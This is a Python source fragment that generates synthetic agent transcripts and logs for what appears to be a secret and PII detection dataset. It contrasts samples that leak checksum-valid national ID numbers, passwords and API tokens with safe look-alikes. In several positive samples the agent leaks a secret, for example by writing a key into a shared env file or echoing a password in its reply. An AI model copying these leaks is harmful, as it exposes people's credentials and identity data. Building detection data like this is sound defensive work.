    ("tool_output", f"notitie {ts()}: klant belt over toeslag, BSN {_b}, geboortedatum bekend, terugbellen"),
    ("thought", "BSN voldoet aan de elfproef; dit hoort niet in vrije tekst."),
    ("final", "Bevinding vastgelegd; notitie geanonimiseerd."),
], LEG), _b)

_p = personnummer()
S("sv", rec([
    ("task", "Granskning av supportärenden enligt dataskyddspolicyn"),
    ("tool_output", f"Ärende {tk('SUP-', 6)}: \"Hej, jag kommer inte in på Mina sidor. Mitt personnummer är {_p}.\""),
    ("thought", "Fullständigt personnummer med giltig kontrollsiffra i fritext."),
], LEG), _p)

_f = fnr_no()
S("no", rec([
    ("task", "Internrevisjon: søk etter fødselsnumre i delte regneark"),
    ("tool_output", f"Fil: lønn_2026_oktober.xlsx, ark 'Nye ansatte', rad 14: Ola Nordmann; {_f}; kontonummer oppgitt"),
    ("thought", "Fødselsnummeret består modulus 11-kontrollen. Regnearket er delt med hele avdelingen."),
    ("final", "Avvik registrert; tilgang begrenset til lønn."),
], LEG), _f)

_h = hetu()
S("fi", rec([
    ("task", "Tietosuoja-auditointi: asiakaspalvelun chat-lokit"),
    ("tool_output", f"[{ts('log')}] asiakas: hei, henkilötunnukseni on {_h}, voitteko tarkistaa laskuni?"),
    ("thought", "Henkilötunnus tarkistusmerkkeineen chat-lokissa – maskattava."),
], LEG), _h)

_pe = pesel()
S("pl", rec([
    ("task", "Audyt RODO: dane osobowe w zgłoszeniach helpdesku"),
    ("tool_output", f"Zgłoszenie {tk('HD/', 6)}: \"Proszę o reset hasła, weryfikacja: PESEL {_pe}, nazwisko panieńskie matki Kowalska\""),
    ("thought", "Numer PESEL z poprawną cyfrą kontrolną użyty jako dane weryfikacyjne w zwykłym zgłoszeniu."),
], LEG), _pe)

_rc = rodne_cislo()
S("cs", rec([
    ("task", "Kontrola souladu s GDPR – exporty z docházkového systému"),
    ("tool_output", f"jmeno;prijmeni;rodne_cislo;stredisko\nJana;Nováková;{_rc};Brno-03"),
    ("thought", "Export obsahuje rodná čísla (platný kontrolní součet mod 11). Export byl na sdíleném disku."),
], LEG), _rc)

_c = cpf()
S("pt", rec([
    ("task", "Auditoria LGPD: revisão de logs da API de cadastro"),
    ("tool_output", f"{ts('log')} INFO cadastro-api POST /clientes body={{\"nome\":\"Ana Souza\",\"cpf\":\"{_c}\",\"email\":\"ana@exemplo.com.br\"}}"),
    ("thought", "A API regista o CPF completo no log de aplicação. Mascarar antes de persistir."),
], LEG), _c)

_t = tckn()
S("tr", rec([
    ("task", "KVKK denetimi: çağrı merkezi kayıt notları"),
    ("tool_output", f"Not ({ts()}): Müşteri kimlik doğrulaması yapıldı, T.C. Kimlik No {_t}, doğum yılı 1987."),
    ("thought", "Kimlik numarası (geçerli kontrol haneleri) serbest metinde; maskelenmeli."),
], LEG), _t)

_tz = teudat_zehut()
S("he", rec([
    ("task", "ביקורת פרטיות: חיפוש מספרי זהות בקבצי יומן של מערכת ההזמנות"),
    ("tool_output", f"{ts('log')} booking-svc customer_lookup id_number={_tz} result=found"),
    ("thought", "מספר תעודת זהות מלא (ספרת ביקורת תקינה) נרשם ביומן."),
], LEG), _tz)

_cn = cn_id()
S("zh", rec([
    ("task", "个人信息保护合规检查：客服工单中的身份证号"),
    ("tool_output", f"工单 {tk('KF', 8)}：客户要求修改手机号，已核验身份证号 {_cn}，姓名 张伟"),
    ("thought", "完整身份证号（校验位正确）出现在工单正文中，应脱敏为前6后4。"),
], LEG), _cn)

_a = aadhaar()
S("hi", rec([
    ("task", "DPDP अनुपालन ऑडिट: ग्राहक सहायता ईमेल में आधार नंबर"),
    ("tool_output", f"ईमेल ({ts()}): \"मेरा KYC अपडेट करें, आधार संख्या {_a} है\""),
    ("thought", "पूरा आधार नंबर (Verhoeff चेक सही) सादे ईमेल में। मास्किंग नीति लागू करनी होगी।"),
], LEG), _a)

_k = kr_rrn()
S("ko", rec([
    ("task", "개인정보 점검: 상담 메모 내 주민등록번호 검출"),
    ("tool_output", f"상담메모 {ts('date')}: 고객 본인확인 완료 (주민번호 {_k}), 주소 변경 요청"),
    ("thought", "주민등록번호 전체가 평문으로 저장됨. 뒷자리 마스킹 필요."),
], LEG), _k)

_mn = my_number()
S("ja", rec([
    ("task", "個人情報監査：給与システムの問い合わせ履歴"),
    ("tool_output", f"問い合わせ #{dg(6)}（{ts('date')}）：年末調整の件、マイナンバー {_mn} を記載しました。"),
    ("thought", "マイナンバー（チェックデジット正）が問い合わせ本文に平文で残っている。"),
], LEG), _mn)

_u = rnokpp()
S("uk", rec([
    ("task", "Аудит захисту персональних даних: вкладення у службі підтримки"),
    ("tool_output", f"Звернення {tk('ЗВ-', 5)}: «Прошу оновити дані для виплати, РНОКПП {_u}, IBAN у вкладенні»"),
    ("thought", "Податковий номер фізособи (контрольна цифра вірна) у тексті звернення."),
], LEG), _u)

_th = thai_id()
S("th", rec([
    ("task", "ตรวจสอบตาม PDPA: ข้อมูลส่วนบุคคลในบันทึกคอลเซ็นเตอร์"),
    ("tool_output", f"บันทึก {ts('date')}: ลูกค้ายืนยันตัวตนด้วยเลขบัตรประชาชน {_th} ขอเปลี่ยนที่อยู่"),
    ("thought", "เลขบัตรประชาชนเต็ม (เลขตรวจสอบถูกต้อง) ถูกบันทึกเป็นข้อความธรรมดา"),
], LEG), _th)

_sa = saudi_id()
S("ar", rec([
    ("task", "تدقيق حماية البيانات: سجلات نظام التوظيف"),
    ("tool_output", f"{ts('log')} hr-portal applicant_created national_id={_sa} name=\"عبدالله\" city=الرياض"),
    ("thought", "رقم الهوية الوطنية كاملاً في سجل التطبيق؛ يجب إخفاؤه."),
], LEG), _sa)

# ---- I. research labs & universities --------------------------------------
_section("I")
_pw = pw_alnum(14)
S("en", f"""#!/bin/bash
#SBATCH --job-name=sync-cryoem
#SBATCH --partition=transfer
#SBATCH --time=04:00:00
#SBATCH --account=struct-bio
# copies nightly microscope data to the cluster (added by research-it agent, {ts('date')})
sshpass -p '{_pw}' rsync -av --partial krios-operator@{ip10()}:/data/Krios2/2026-*/ /scratch/struct-bio/krios/
echo "done $(date)" >> ~/sync.log""", _pw)

_pw = pw_human()
S("de", rec([
    ("task", "Neue Doktorandin im LIMS (Labvantage) anlegen, Rolle 'Analyst Proteomik'"),
    ("tool_call", call("lims.user.create", {"username": "s.hartmann", "role": "ANALYST_PROT", "initial_password": _pw})),
    ("tool_output", "user created id=" + dg(6)),
    ("final", f"Konto angelegt. Startpasswort {_pw} wurde der Arbeitsgruppenleitung mitgeteilt."),
], LAB), _pw)

_tok = rs(40, LO + DG)
S("en", rec([
    ("task", "Push plate-reader results into Benchling for assay AS-" + dg(4)),
    ("tool_call", call("http.post", {"url": "https://uni-lab.benchling.com/api/v2/assay-results:bulk-create",
                                      "auth": f"sk_{_tok}:", "body": {"assayResults": "<96 rows>"}})),
    ("tool_output", "202 Accepted taskId=" + guid()),
], LAB), "sk_" + _tok)

_pw = pw_alnum(12)
S("no", rec([
    ("task", "Ny bruker på HPC-klyngen for masterstudent i beregningskjemi"),
    ("tool_call", call("ipa.user_add", {"uid": "mastud07", "first": "Ingrid", "last": "Berg", "password": _pw})),
    ("tool_output", "Added user \"mastud07\"; password expires at first login"),
    ("final", f"Bruker opprettet. Engangspassord {_pw} sendt som SMS til studenten."),
], LAB), _pw)

_pw = pw_human()
S("id", rec([
    ("task", "Akun klaster HPC untuk mahasiswa S2 tidak bisa login lewat SSH"),
    ("user", f"Pak, saya sudah coba ssh budi.s@hpc.kampus.ac.id dengan password {_pw} tapi ditolak terus."),
    ("thought", "Akun terkunci setelah 5 percobaan gagal (faillock). Buka kunci; minta ganti password karena sudah ditulis di chat."),
    ("tool_call", call("ssh.exec", {"host": "hpc-login1", "cmd": "faillock --user budi.s --reset"})),
], LAB), _pw)

_pw = pw_alnum(10)
S("cs", rec([
    ("task", "Zprovoznit automatické přihlášení na PC u hmotnostního spektrometru"),
    ("tool_output", f"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\n  AutoAdminLogon    REG_SZ    1\n  DefaultUserName   REG_SZ    msoperator\n  DefaultPassword   REG_SZ    {_pw}"),
    ("thought", "Heslo je v registru v otevřené podobě. Lepší použít Autologon od Sysinternals (LSA secret)."),
], LAB), _pw)

_jt = hx(48)
S("fi", rec([
    ("task", "Opiskelija ei pääse Jupyter-palvelimelle laskentasolmulla"),
    ("tool_output", f"[I {ts('log')} ServerApp] Jupyter Server 2.14.2 is running at:\n[I ServerApp] http://gpu-node07:8888/lab?token={_jt}"),
    ("thought", "Token tulostuu lokiin; jaettu opiskelijalle SSH-tunnelin ohjeiden kanssa. Huom: kuka tahansa klusterilla voi käyttää tokenia."),
], LAB), _jt)

_key = hx(40)
S("en", rec([
    ("task", "Set up experiment tracking for the protein-folding group on the cluster"),
    ("tool_call", call("shell.exec", {"host": "login2", "cmd": f"echo 'export WANDB_API_KEY={_key}' >> /projects/fold/env.sh && chmod 640 /projects/fold/env.sh"})),
    ("tool_output", "ok"),
    ("lesson", "Group-readable env file exposes the key to all project members; use per-user netrc."),
], LAB), _key)

_tok = HX(32)
S("vi", rec([
    ("task", "Xuất dữ liệu nghiên cứu lâm sàng từ REDCap cho nhóm thống kê"),
    ("tool_call", call("http.post", {"url": "https://redcap.dhyd.example.vn/api/", "form": {"token": _tok, "content": "record", "format": "csv", "type": "flat"}})),
    ("tool_output", "312 records exported"),
    ("lesson", "Token API REDCap gắn với quyền của người dùng; không lưu trong script dùng chung."),
], LAB), _tok)

_pw = pw_alnum(10)
S("it", rec([
    ("task", "Collegare il nuovo cromatografo HPLC alla rete del laboratorio"),
    ("note", f"Account di servizio Chromeleon: cmadmin / {_pw} (fornito dal tecnico Thermo)"),
    ("tool_output", f"instrument serial {rs(8, UP + DG)} registered; firmware 7.3.2"),
    ("final", "Strumento registrato. La password fornita dal tecnico va cambiata al primo accesso."),
], LAB), _pw)

# ---- J. media & publishing ------------------------------------------------
_section("J")
_ap = " ".join(rs(4, AN) for _ in range(6))
S("en", rec([
    ("task", "Let the newsroom scheduler publish to WordPress via REST"),
    ("tool_call", call("http.post", {"url": "https://news.acme.example/wp-json/wp/v2/posts", "auth": {"type": "basic", "user": "scheduler-bot", "password": _ap},
                                      "body": {"title": "Morning briefing", "status": "future", "date": ts()}})),
    ("tool_output", f'{{"id":{nz(5)},"status":"future","link":"https://news.acme.example/?p={nz(5)}"}}'),
], MED), _ap)

_tok = meta_token()
S("en", rec([
    ("task", "Schedule the Friday video post on the brand Facebook page"),
    ("tool_call", call("http.post", {"url": f"https://graph.facebook.com/v21.0/{nz(15)}/videos", "form": {"access_token": _tok, "published": "false", "scheduled_publish_time": ts("epoch")}})),
    ("tool_output", f'{{"id":"{nz(16)}"}}'),
], MED), _tok)

_pw = pw_human()
_bc = f"{dg(4)} {dg(4)}"
S("pl", rec([
    ("task", "Redakcja straciła dostęp do konta Instagram magazynu po zmianie telefonu"),
    ("note", f"Od redaktor naczelnej: login @magazyn_kultura, hasło {_pw}, kod zapasowy 2FA {_bc}"),
    ("thought", "Hasło i kod zapasowy w notatce – po odzyskaniu dostępu trzeba wygenerować nowe kody i zmienić hasło."),
    ("final", "Dostęp odzyskany, kody zapasowe wygenerowane ponownie."),
], MED), _pw)

_tok = x_bearer()
S("en", f"""{ts('log')} [social-ingest] GET https://api.x.com/2/tweets/search/recent?query=%23acmelaunch&max_results=100
{ts('log')} [social-ingest] headers: {{"Authorization": "Bearer {_tok}", "User-Agent": "acme-newsroom/2.3"}}
{ts('log')} [social-ingest] 429 Too Many Requests; x-rate-limit-reset={ts('epoch')}
# newsroom-ops: request headers logged at INFO""", _tok)

_sec = gocspx()
S("en", rec([
    ("task", "Re-authorise the YouTube upload integration for the video desk"),
    ("tool_call", call("file.read", {"path": "/srv/uploader/client_secret.json"})),
    ("tool_output", json.dumps({"installed": {"client_id": f"{nz(12)}-{rs(32, LO + DG)}.apps.googleusercontent.com", "project_id": "newsroom-uploader",
                                               "client_secret": _sec, "redirect_uris": ["http://localhost"]}})),
    ("thought", "Consent screen is in testing mode, so refresh tokens expire after 7 days. Publish the app."),
], MED), _sec)

_tok = "shpat_" + hx(32)
S("id", rec([
    ("task", "Sinkronisasi stok toko merchandise majalah (Shopify) dengan gudang"),
    ("tool_call", call("http.get", {"url": "https://toko-majalah.myshopify.com/admin/api/2024-10/inventory_levels.json?location_ids=" + nz(11),
                                     "headers": {"X-Shopify-Access-Token": _tok}})),
    ("tool_output", "214 inventory levels"),
    ("final", "Stok tersinkron. Token admin sebaiknya dipindah ke secret manager."),
], MED), _tok)

_key = hx(32) + "-us" + str(_r.randint(2, 21))
S("no", rec([
    ("task", "Sende nyhetsbrevet 'Morgenbriefen' via Mailchimp fra publiseringssystemet"),
    ("tool_call", call("mailchimp.configure", {"api_key": _key, "list_id": hx(10)})),
    ("tool_output", "ping: Everything's Chimpy!"),
    ("lesson", "API-nøkkelen gir full kontotilgang; lag en egen nøkkel per integrasjon."),
], MED), _key)

_tok = "CFPAT-" + rs(43, B64U)
S("en", rec([
    ("task", "Bulk-update the 'author' field on 1,200 Contentful entries after the rebrand"),
    ("tool_call", call("shell.exec", {"cmd": f"contentful space export --space-id {rs(12, LO + DG)} --management-token {_tok} --skip-content-model"})),
    ("tool_output", "Exported 1,214 entries, 3,882 assets"),
], MED), _tok)

_tok = rs(40, B64U)
S("en", rec([
    ("task", "Purge CDN cache for the breaking-news landing page"),
    ("tool_call", call("http.post", {"url": f"https://api.cloudflare.com/client/v4/zones/{hx(32)}/purge_cache",
                                      "headers": {"Authorization": f"Bearer {_tok}"}, "body": {"files": ["https://news.acme.example/live"]}})),
    ("tool_output", '{"success":true,"errors":[],"messages":[]}'),
], MED), _tok)


# ==========================================================================
# INNOCENT look-alikes
# ==========================================================================

# ---- A. enterprise IT helpdesk & identity --------------------------------
_section("A")
I("en", rec([
    ("task", f"{tk('INC00', 5)} - reset AD password for r.achebe (locked out, badPwdCount=5)"),
    ("thought", "Never put the temporary password in the command line; prompt for it so it is not logged."),
    ("tool_call", call("powershell.run", {"host": "DC01.corp.example", "script":
        "Unlock-ADAccount -Identity r.achebe; Set-ADAccountPassword -Identity r.achebe -Reset -NewPassword (Read-Host -AsSecureString 'New password'); Set-ADUser r.achebe -ChangePasswordAtLogon $true"})),
    ("tool_output", f"exit=0 objectGUID={guid()} objectSid={sid()}"),
    ("final", "Reset done; the technician typed the temporary password at the prompt and read it to the user by phone."),
], HD))

I("en", f"""PS C:\\> Get-ADUser -Identity svc_backup -Properties * | Select-Object Name,ObjectGUID,SID,PasswordLastSet,PasswordNeverExpires,badPwdCount,LockedOut,pwdLastSet
Name                 : svc_backup
ObjectGUID           : {guid()}
SID                  : {sid()}
PasswordLastSet      : {ts('log')[:19]}
PasswordNeverExpires : True
badPwdCount          : 0
LockedOut            : False
pwdLastSet           : 1340{dg(14)}
# helpdesk-agent: PasswordNeverExpires=True on a service account -> finding IAM-22 (rotate via gMSA)""")

I("de", rec([
    ("task", "Passwortrichtlinie für die neue Domäne dokumentieren"),
    ("final", "Mindestens 14 Zeichen, keine Wiederverwendung der letzten 24 Passwörter, Sperre nach 10 Fehlversuchen für 15 Minuten, "
              "kein Ablauf (gemäß BSI-Empfehlung), Abgleich gegen Liste kompromittierter Passwörter. Beispiel für ein schwaches Passwort: 'Sommer2026!' – so etwas wird abgelehnt."),
    ("lesson", "Richtlinie per Fine-Grained Password Policy PSO-Standard (Precedence 10) umgesetzt."),
], HD))

I("en", rec([
    ("task", "Find users enrolled in SMS factor only (Okta)"),
    ("tool_call", call("shell.exec", {"cmd": "curl -s -H \"Authorization: SSWS ${OKTA_API_TOKEN}\" 'https://acme.okta.com/api/v1/users/00u" + rs(17) + "/factors'"})),
    ("tool_output", json.dumps([{"id": "mbl" + rs(17), "factorType": "sms", "provider": "OKTA", "status": "ACTIVE", "profile": {"phoneNumber": "+1 555-01" + dg(2)}},
                                {"id": "ost" + rs(17), "factorType": "token:software:totp", "provider": "GOOGLE", "status": "PENDING_ACTIVATION"}])),
    ("final", "User has SMS active, TOTP pending; sent enrolment reminder."),
], HD))

I("fr", rec([
    ("task", "Rédiger la procédure d'enrôlement MFA pour les nouveaux arrivants"),
    ("final", "1) Installer Microsoft Authenticator. 2) Se connecter à https://aka.ms/mysecurityinfo. 3) Scanner le QR code. "
              "4) Saisir le code à 6 chiffres affiché dans l'application. Ne jamais communiquer ce code par téléphone ou par e-mail, même au support."),
], HD))

_app = guid()
I("en", rec([
    ("task", "List credentials on the 'hr-sync-prod' app registration to see which one expires next"),
    ("tool_call", call("az.cli", {"args": ["ad", "app", "credential", "list", "--id", _app]})),
    ("tool_output", json.dumps([{"customKeyIdentifier": None, "displayName": "hr-sync-2026", "endDateTime": ts(), "hint": rs(3), "keyId": guid(), "secretText": None, "startDateTime": ts()},
                                {"customKeyIdentifier": None, "displayName": "hr-sync-2025", "endDateTime": ts(), "hint": rs(3), "keyId": guid(), "secretText": None, "startDateTime": ts()}], indent=1)),
    ("final", "hr-sync-2025 expires first; secretText is never returned after creation (only the 3-char hint)."),
], HD))

I("ja", rec([
    ("task", "在宅勤務者から VPN が頻繁に切断されるとの問い合わせ"),
    ("tool_call", call("panorama.logs.query", {"type": "globalprotect", "user": "corp\\sato.y", "since": "24h"})),
    ("tool_output", f"{ts('log')} gateway-tokyo tunnel-down reason=keepalive-timeout client_ip={ipdoc()} gp_version=6.2.4 host_id={guid()}"),
    ("reply", "キープアライブのタイムアウトが原因です。自宅ルーターの再起動と Wi-Fi 5GHz 帯への切り替えをお試しください。"),
], HD))

I("en", rec([
    ("task", f"Retrieve LAPS password for WS-NYC-{dg(4)}"),
    ("tool_call", call("powershell.run", {"script": "Get-LapsADPassword -Identity WS-NYC-0077"})),
    ("tool_output", f"ComputerName        : WS-NYC-0077\nAccount             : Administrator\nPassword            : System.Security.SecureString\nPasswordUpdateTime  : {ts()}\nExpirationTimestamp : {ts()}\nSource              : EncryptedPassword\nDecryptionStatus    : Unauthorized"),
    ("final", "Agent account lacks 'LAPS Password Readers' rights; escalated to Tier 2 instead of retrieving it."),
], HD))

I("es", rec([
    ("task", "Revisar configuración de SSSD en el servidor de RR. HH."),
    ("tool_output", "[domain/empresa.es]\nid_provider = ldap\nauth_provider = krb5\nldap_uri = ldaps://ldap.empresa.es\nldap_sasl_mech = GSSAPI\nldap_krb5_keytab = /etc/krb5.keytab\nkrb5_realm = EMPRESA.ES\n# sin contraseña de enlace: se usa la keytab del host"),
    ("final", "Configuración correcta: autenticación por keytab, no hay contraseñas en el fichero."),
], HD))

_kid = guid().upper()
I("en", rec([
    ("task", "User stuck at BitLocker recovery screen, which key do we need?"),
    ("user", f"Screen says: 'Recovery key ID: {_kid[:8]}' and then the full ID {_kid}"),
    ("thought", "The Key ID is only an identifier used to look up the 48-digit recovery key; it is safe to record."),
    ("tool_call", call("graph.bitlocker.recoveryKeys.list", {"filter": f"deviceId eq '{guid()}'"})),
    ("tool_output", json.dumps({"value": [{"id": _kid.lower(), "createdDateTime": ts(), "volumeType": "1"}]})),
    ("final", "Key ID matches; escalated to the on-site tech, who will read the recovery key to the user (not logged)."),
], HD))

I("zh", rec([
    ("task", "编写密码策略说明（面向全体员工）"),
    ("final", "密码长度至少 12 位，须包含大小写字母和数字；不得与前 5 次密码相同；连续输错 5 次将锁定 30 分钟。"
              "示例格式：<至少12位的口令>。请勿将密码写在便签或发送给任何人，IT 人员不会向您索要密码。"),
], HD))

I("ko", rec([
    ("user", "인증번호 6자리가 문자로 안 와요."),
    ("tool_call", call("sms.gateway.status", {"msisdn": "+82-10-****-" + dg(4), "hours": 1})),
    ("tool_output", f"3 messages queued, carrier status=DELAYED msg_id={hx(24)}"),
    ("reply", f"통신사 지연으로 문자가 늦게 도착하고 있습니다. 5분 후 다시 요청해 주세요. 티켓 {tk('SR-', 6)}"),
], HD))

I("en", rec([
    ("task", "Check Temporary Access Pass policy before onboarding wave"),
    ("tool_call", call("graph.get", {"url": "/policies/authenticationMethodsPolicy/authenticationMethodConfigurations/TemporaryAccessPass"})),
    ("tool_output", json.dumps({"id": "TemporaryAccessPass", "state": "enabled", "defaultLifetimeInMinutes": 60, "defaultLength": 8,
                                 "minimumLifetimeInMinutes": 60, "maximumLifetimeInMinutes": 480, "isUsableOnce": True})),
    ("final", "Policy OK: 8-char passes, single use, max 8 h."),
], HD))

I("ru", rec([
    ("task", "Описать, где хранится пароль сервисной учётки svc_veeam_ad"),
    ("final", "Пароль хранится только в Vault по пути secret/data/ad/svc_veeam_ad (версия 7), ротация раз в 90 дней через задание CHG-ротации. "
              "В тикетах и чатах пароль не указывается; для доступа запросите роль vault-backup-operators."),
], HD))

I("en", f"""# inventory/group_vars/windows.yml  (commit {sha1h()[:10]})
ansible_connection: winrm
ansible_winrm_transport: kerberos
ansible_user: svc_ansible@CORP.EXAMPLE
ansible_password: "{{{{ vault_win_svc_ansible_password }}}}"
ansible_winrm_server_cert_validation: validate
# helpdesk-agent: password comes from ansible-vault (group_vars/windows/vault.yml), nothing inline""")

I("tr", rec([
    ("user", "Outlook mobil kurulumunda sunucu bilgilerini nereye yazacağım?"),
    ("reply", "Gelen sunucu: outlook.office365.com (IMAP 993, SSL). Giden sunucu: smtp.office365.com (587, STARTTLS). "
              "Kullanıcı adı e-posta adresinizdir; şifrenizi kimseyle, biz dahil, paylaşmayın."),
], HD))

I("en", f"""{ts('log')} INFO  provisioning job={guid()} servicePrincipal={guid()} tenant={guid()}
{ts('log')} INFO  target=Acme Wiki SaaS  TenantURL=https://wiki.acme-saas.example/scim/v2  SecretToken=********
{ts('log')} INFO  cycle=initial users_in_scope=412 created=398 skipped=14 escrow=false
{ts('log')} WARN  14 users skipped: attribute 'emails[type eq "work"].value' empty""")

I("hi", rec([
    ("task", "BitLocker रिकवरी key ID की पुष्टि"),
    ("user", f"स्क्रीन पर Key ID {guid().upper()} दिख रहा है।"),
    ("reply", "यह Key ID केवल पहचान के लिए है, यह रिकवरी key नहीं है। हमारा तकनीशियन आपको फ़ोन पर संपर्क करेगा।"),
], HD))

I("he", rec([
    ("task", "הודעה למשתמשים על תפוגת סיסמה"),
    ("final", "הסיסמה שלך תפוג בעוד 7 ימים. יש להחליף אותה דרך הפורטל https://passwordreset.microsoftonline.com. "
              "לעולם אל תשלח את הסיסמה בדוא\"ל או בצ'אט. אורך מינימלי: 14 תווים."),
], HD))

I("en", f"""; C:\\Program Files\\Duo Security Authentication Proxy\\conf\\authproxy.cfg  (sanitised copy for the runbook)
[radius_server_auto]
ikey=DI{rs(18, UP + DG)}
skey_protected=<DPAPI-protected value, machine-bound>
api_host=api-{hx(8)}.duosecurity.com
radius_ip_1={ip10()}
radius_secret_protected_1=<DPAPI-protected value, machine-bound>
failmode=safe
; ikey = integration key (an identifier, like a username); the secret key is only stored protected""")

I("vi", rec([
    ("user", "Tôi quên mật khẩu email, làm sao để đặt lại?"),
    ("reply", "Bạn vào https://passwordreset.microsoftonline.com, nhập email công ty và xác minh bằng ứng dụng Authenticator. "
              "Bộ phận IT sẽ không bao giờ hỏi mật khẩu của bạn."),
    ("note", f"ticket {tk('YC-', 6)} closed, no password handled by agent"),
], HD))

I("en", rec([
    ("task", "Onboard summer interns in Google Workspace"),
    ("tool_call", call("gam", {"argv": ["create", "user", "intern.c.ng@acme.example", "firstname", "Chloe", "lastname", "Ng", "password", "random", "changepassword", "on", "org", "/Interns", "notify", "manager@acme.example"]})),
    ("tool_output", f"User: intern.c.ng@acme.example, Created\nuid={dg(21)}\nPassword: (random, delivered to manager via notify email)"),
], HD))

I("nl", rec([
    ("task", "Wachtwoordbeleid toelichten aan nieuwe medewerker"),
    ("final", "Minimaal 15 tekens, bij voorkeur een wachtzin van vier woorden. Je wachtwoord verloopt niet, tenzij het in een datalek opduikt. "
              "Deel het nooit, ook niet met de servicedesk."),
], HD))

I("id", rec([
    ("task", "Kartu akses karyawan baru belum aktif"),
    ("tool_call", call("pacs.badge.lookup", {"uid": "04:" + ":".join(hx(2) for _ in range(6)), "facility_code": _r.randint(10, 250)})),
    ("tool_output", f"badge #{dg(6)} status=PENDING group=ACC-Marketing created={ts()}"),
    ("reply", "Kartu sudah terdaftar tetapi menunggu persetujuan atasan. UID kartu bukan PIN dan aman dicatat."),
], HD))

I("en", f"""<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event">
  <System><EventID>4625</EventID><Computer>DC02.corp.example</Computer><TimeCreated SystemTime="{ts('isoms')}"/></System>
  <EventData>
    <Data Name="SubjectUserSid">S-1-5-18</Data>
    <Data Name="TargetUserName">m.okafor</Data>
    <Data Name="TargetDomainName">CORP</Data>
    <Data Name="Status">0xc000006d</Data>
    <Data Name="SubStatus">0xc000006a</Data>
    <Data Name="LogonType">3</Data>
    <Data Name="IpAddress">{ip10()}</Data>
    <Data Name="LogonGuid">{{{guid()}}}</Data>
  </EventData>
</Event>
<!-- helpdesk-agent: 0xc000006a = bad password; source is an old phone with cached credentials -->""")

I("sv", rec([
    ("task", "Användaren j.nyberg är utelåst igen"),
    ("thought", "Kontot låses var 15:e minut – troligen en gammal mobil med sparat lösenord."),
    ("tool_call", call("ad.lockout_source", {"user": "j.nyberg"})),
    ("tool_output", f"source=ActiveSync device_id={HX(32)} ua=Android-Mail/2024.11"),
    ("final", "Bad mobilen ta bort och lägga till kontot igen. Inget lösenord hanterat i ärendet."),
], HD))

I("en", f"""  # terraform plan (excerpt)
  ~ resource "okta_app_oauth" "grafana" {{
        id            = "0oa{rs(17)}"
      ~ client_secret = (sensitive value)
        label         = "Grafana"
        # (14 unchanged attributes hidden)
    }}
Plan: 0 to add, 1 to change, 0 to destroy.
# helpdesk-agent: secret rotated via var.grafana_client_secret (from Vault); plan output masks it""")

# ---- B. networking & telecom ---------------------------------------------
_section("B")
I("en", rec([
    ("task", f"Audit running-config of rtr-edge-ams-02 (SN {rs(11, UP + DG)}) for weak credential storage"),
    ("tool_call", call("netmiko.send_command", {"host": "rtr-edge-ams-02", "command": "show running-config | section username|enable"})),
    ("tool_output", f"enable secret 9 {cisco_type9()}\nusername netops privilege 15 secret 9 {cisco_type9()}\nusername readonly privilege 1 secret 8 {cisco_type8()}\n!"),
    ("thought", "All entries are type 8/9 (PBKDF2/scrypt one-way hashes). Nothing reversible."),
    ("final", "No finding for rtr-edge-ams-02."),
], NET))

I("en", f"""! config template: templates/ios/snmp.j2  (rendered preview, variables unresolved)
snmp-server group NMS-RO v3 priv read V3-VIEW
snmp-server user {{{{ snmp_v3_user }}}} NMS-RO v3 auth sha <AUTH_PASSWORD> priv aes 128 <PRIV_PASSWORD>
snmp-server community <RO_COMMUNITY> RO SNMP-MGMT
snmp-server location {{{{ site.location }}}}
snmp-server host {ip10()} version 3 priv {{{{ snmp_v3_user }}}}
! netops-agent: placeholders are filled from NetBox config contexts + Vault at render time""")

I("de", rec([
    ("task", "Lokale Benutzer auf den SRX-Firewalls prüfen"),
    ("tool_output", f'set system login user netadmin uid 2001\nset system login user netadmin class super-user\nset system login user netadmin authentication encrypted-password "{sha512crypt()}"\nset system login user netadmin authentication ssh-ed25519 "{ssh_pub_ed25519()} netadmin@jump"'),
    ("thought", "encrypted-password ist hier ein SHA-512-crypt-Hash ($6$), kein umkehrbarer $9$-Wert; der SSH-Schlüssel ist öffentlich."),
    ("final", "Keine Beanstandung."),
], NET))

I("en", f"""[admin@MikroTik-Branch-11] > /export hide-sensitive
# {ts('syslog')} by RouterOS 7.16.1
# software id = {rs(4, UP + DG)}-{rs(4, UP + DG)}
# model = C52iG-5HaxD2HaxD
# serial number = {HX(12)}
/interface wifi security
add authentication-types=wpa2-psk,wpa3-psk name=staff
add authentication-types=wpa2-psk name=guest
/ip address
add address=10.{_r.randint(1, 200)}.11.1/24 interface=bridge-lan network=10.{_r.randint(1, 200)}.11.0
# netops-agent: keys are omitted by hide-sensitive, export is safe to attach to the ticket""")

I("fr", rec([
    ("task", "Vérifier la configuration hostapd du labo B210"),
    ("tool_output", "interface=wlan0\nssid=LABO-B210\nwpa=2\nwpa_key_mgmt=WPA-PSK SAE\nwpa_psk_file=/etc/hostapd/hostapd.wpa_psk\nieee80211w=1\n# la clé n'est pas dans ce fichier (wpa_psk_file, droits 0600)"),
    ("final", "Configuration conforme ; clés gérées dans un fichier séparé non exporté."),
], NET))

I("en", f"""(13) Received Access-Request Id 117 from {ip10()}:51322 to {ip10()}:1812 length 312
(13)   User-Name = "host/WS-LDN-{dg(4)}.corp.example"
(13)   NAS-IP-Address = {ip10()}
(13)   Calling-Station-Id = "{mac('-', True)}"
(13)   Called-Station-Id = "{mac('-', True)}:CORP-WIFI"
(13)   Message-Authenticator = 0x{hx(32)}
(13)   EAP-Message = 0x0201{hx(28)}
(13) Sent Access-Accept Id 117 from {ip10()}:1812 to {ip10()}:51322 length 0
(13)   MS-MPPE-Recv-Key = <hidden>
# netops-agent: Message-Authenticator is an HMAC over the packet, not the shared secret""")

I("en", rec([
    ("task", "Check IPsec tunnel health Hamburg <-> AWS"),
    ("tool_call", call("ssh.exec", {"host": "vpn-ham-01", "cmd": "ipsec statusall aws-tgw-1"})),
    ("tool_output", f"aws-tgw-1[3]: ESTABLISHED 4 hours ago, {ipdoc()}[{ipdoc()}]...{ipdoc()}[{ipdoc()}]\naws-tgw-1[3]: IKEv2 SPIs: {hx(16)}_i* {hx(16)}_r, pre-shared key reauthentication in 3 hours\naws-tgw-1[3]: IKE proposal: AES_GCM_16_256/PRF_HMAC_SHA2_384/ECP_384\naws-tgw-1{{7}}: INSTALLED, TUNNEL, reqid 1, ESP SPIs: c{hx(7)}_i {hx(8)}_o"),
    ("final", "Both directions up; SPIs and proposal look fine."),
], NET))

I("es", rec([
